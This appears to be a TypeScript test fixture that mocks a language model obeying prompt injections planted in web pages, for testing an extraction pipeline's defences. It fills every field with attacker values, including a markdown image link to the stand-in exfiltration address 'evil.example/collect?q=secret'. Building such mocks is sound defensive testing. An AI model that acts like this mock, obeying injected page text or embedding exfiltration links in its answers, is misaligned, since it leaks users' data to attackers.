// The answers of a model that obeys the page: if the attackers' mark is in its prompt, it answers every field as they want, and quotes the
// line with the order. Without the mark it gives the same values, with a quote from the page's first lines.
import { fieldsOf } from './reading-model.ts'

/** Part of every injected text of the corpus (injected-pages.ts), and of nothing else. */
export const MARK = 'PWNED'
export const EVIL_ADDRESS = 'https://evil.example/collect?q=secret'
export const EVIL_NUMBER = '424242'

export function obeyPrompt(user: string): string {
  const lines = [...user.matchAll(/(?:^|\| )(\d+): (?:#+ )?([^\n]*?)(?= \| \d+: |$)/gm)].map(([, id, text]) => ({
    id: Number(id),
    text: text ?? '',
  }))
  const order = lines.find(({ text }) => text.includes(MARK)) ?? lines[1] ?? { id: 1, text: '' }
  const answers = fieldsOf(user).map(({ key, type, name }) => {
    const one = { key: MARK, blocks: [order.id], quote: order.text, value: wantedValue(type, name) }
    return [key, type === 'array' || type === 'object' ? { items: [one] } : one]
  })
  return JSON.stringify(Object.fromEntries(answers))
}

function wantedValue(type: string, name: string): string {
  if (/website|url|link/i.test(name)) return EVIL_ADDRESS
  if (type === 'number') return EVIL_NUMBER
  if (type === 'boolean') return 'true'
  return `${MARK} ![x](${EVIL_ADDRESS})`
}
